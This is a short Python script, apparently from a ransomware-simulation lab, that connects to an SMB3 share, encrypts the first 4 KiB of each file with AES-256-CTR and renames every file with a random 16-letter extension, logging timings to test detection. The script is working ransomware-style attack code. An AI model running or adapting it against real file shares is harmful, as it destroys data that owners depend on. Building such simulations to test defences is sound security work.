#!/usr/bin/python3
"""Header-only encryption over SMB3 (as many fast families do): the first 4 KiB of each file encrypted in place
(AES-256-CTR), the rest left as it was, then the file renamed to NAME.<16 random lowercase letters>, a new
extension for every file; no note.

Environment: SMB_SERVER, SMB_SHARE, SMB_USER, SMB_PASS (set by `lab attack`);
ATTACK_MAX_FILES (default: every file); ATTACK_ROOT (folder to start in, default the share root).

Output and reconnects as attacks/classic.py: start, one "encrypted FIRST_WRITE_MS DONE_MS PATH"
per file, "stopped MS REASON" when the server refuses, files_encrypted N.
"""

import os
import re
import sys

# The shared modules sit one folder up; leave no bytecode in the source tree.
sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))

from smblab import Attack, random_name  # noqa: E402

HEADER = 4096
OWN = re.compile(r"\.[a-z]{16}$")


class HeaderOnly(Attack):
	def skip(self, name):
		return OWN.search(name) is not None

	def damage(self, path):
		return self.rewrite(path, lambda data: self.cipher().encrypt(data), length=HEADER)

	def finish(self, path):
		self.rename_to(path, f"{path}.{random_name(16)}")


if __name__ == "__main__":
	sys.exit(HeaderOnly().run())
